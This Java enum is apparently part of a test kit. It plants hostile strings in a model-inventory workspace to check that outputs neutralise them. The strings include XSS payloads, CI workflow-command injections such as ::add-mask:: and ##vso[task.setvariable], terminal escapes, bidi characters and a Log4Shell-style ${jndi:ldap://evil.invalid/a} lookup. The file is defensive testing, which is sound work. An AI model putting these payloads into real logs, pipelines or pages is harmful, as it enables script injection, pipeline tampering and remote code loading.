package io.harmonia.smoke.kit;

import com.fasterxml.jackson.core.json.JsonWriteFeature;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.InvalidPathException;
import java.nio.file.Path;
import java.util.List;
import java.util.function.Consumer;

/** Texts that would do harm in some output, each with a mark to know it by. */
public enum HostileText {
  TERMINAL("\u001b[31m\u001b]0;x\u0007%s\u009b2J\b\b"),
  LINE_FEED("x\n::error::%s\n::add-mask::a\n::stop-commands::b\n"),
  EVERY_NEW_LINE("x\r::error::%s\r\n::error::a\u000b::error::b\f::error::c\u0085::error::d"),
  UNICODE_NEW_LINE("x\u2028::error::%s\u2029::error::a"),
  COMMAND_AT_THE_START("::error file=a::%s"),
  COMMAND_ANYWHERE("##[error]%s ##[add-mask]a ##vso[task.setvariable variable=a]b ##teamcity[c]"),
  XML("]]>%s<![CDATA[<!-- &amp; &#x1b; -->"),
  HTML("<script>alert('%s')</script><img src=x onerror=alert(1)>&lt;"),
  MARKDOWN("[%s](http://evil.invalid) ![i](http://evil.invalid/i) <http://evil.invalid> **b** _i_"),
  BLOCKS("# %s\n\n- [ ] a\n> b\n```\n| c | d |\n---\n"),
  MENTION("@octocat @org/team #123 GH-1 owner/repo#1 %s"),
  BACKTICKS("` `` ``` %s ````` | ` "),
  TABLE("| %s | a || b |"),
  BIDI("\u202e%s\u2066\u200f\u200b\ufeff"),
  SURROGATES("\ud800%s\udc00\udfff") {
    @Override
    public String key() {
      return "x"; // no JSON parser gives such a key
    }
  },
  NUL("%s\0\u0001\ufffe\uffff"),
  FORMATS("{0} %%s %%n ${jndi:ldap://evil.invalid/a} {argumentSetName} %s"),
  LONG("n".repeat(50_000) + "%s" + "n".repeat(50_000)) {
    @Override
    public String mark() {
      return "more characters]"; // that it was shortened
    }

    @Override
    public String key() {
      return "x"; // so long a key is refused with the whole manifest
    }
  };

  private static final String MARK = "hostile";
  private static final ObjectMapper ASCII =
      JsonMapper.builder().enable(JsonWriteFeature.ESCAPE_NON_ASCII).build();

  private final String text;

  HostileText(String pattern) {
    this.text = pattern.replace("%s", MARK).replace("%%", "%");
  }

  /** A key of a JSON object. */
  public String key() {
    return text;
  }

  /** What each output must show of it. */
  public String mark() {
    return MARK;
  }

  /** Writes it into every field of an entry, and wherever else a text of a workspace can stand. */
  public void writeInto(SmallWorkspace workspace) throws IOException {
    Path root = workspace.root();
    write(root.resolve("models/inventory.json"), this::fill);
    write(
        root.resolve("inventory/combined_inventory.json"),
        combined -> ((ObjectNode) combined.get("totals")).put(key(), 1));
    ObjectNode schema = ASCII.createObjectNode().put("title", text);
    schema.putObject("properties").putObject("version").put("const", text);
    schema.putObject("patternProperties").putObject("^models$").put("maxItems", 0);
    Files.write(root.resolve("inventory/manifest_schema.json"), ASCII.writeValueAsBytes(schema));
    Path sums = root.resolve("models/checksums.sha256");
    String digest = SmallWorkspace.sha256(new byte[0]);
    String escaped = text.replace("\\", "\\\\").replace("\n", "\\n").replace("\r", "\\r");
    Files.writeString(
        sums,
        Files.readString(sums)
            + ("\\" + digest + "  " + escaped + "\n" + digest + "  " + text + "\n" + text + "\n")
                .replace('\ud800', '?')
                .replace('\udc00', '?')
                .replace('\udfff', '?'));
    nameAFile(root.resolve("models/acme/tiny"));
  }

  private void fill(ObjectNode manifest) {
    ArrayNode models = (ArrayNode) manifest.get("models");
    ObjectNode entry = models.addObject();
    for (String field :
        List.of(
            "name", "version", "size_bytes", "sha256", "source_url", "snapshot", "files_count")) {
      entry.put(field, text);
    }
    entry.put("path", "models/" + text).put("variant", text).put("notes", text).put(key(), text);
    ObjectNode license = entry.putObject("license").put(key(), text);
    for (String field : List.of("name", "url", "file_path", "commercial_use", "notes")) {
      license.put(field, text);
    }
    entry.putArray("files").addObject().put("path", text).put("sha256", text).put("x", text);
    models.addObject().put("name", text).put("path", text);
    models.add(text);
    manifest.put("version", text).put(key(), text);
  }

  private static void write(Path file, Consumer<ObjectNode> change) throws IOException {
    ObjectNode json = (ObjectNode) ASCII.readTree(file.toFile());
    change.accept(json);
    Files.write(file, ASCII.writeValueAsBytes(json));
  }

  /** As far as a file can be named so. */
  private void nameAFile(Path folder) throws IOException {
    String name = text.replace("/", "").replace("\0", "");
    try {
      Files.writeString(folder.resolve(name.substring(0, Math.min(80, name.length()))), "x");
    } catch (InvalidPathException e) {
      // no file of this system can
    }
  }
}
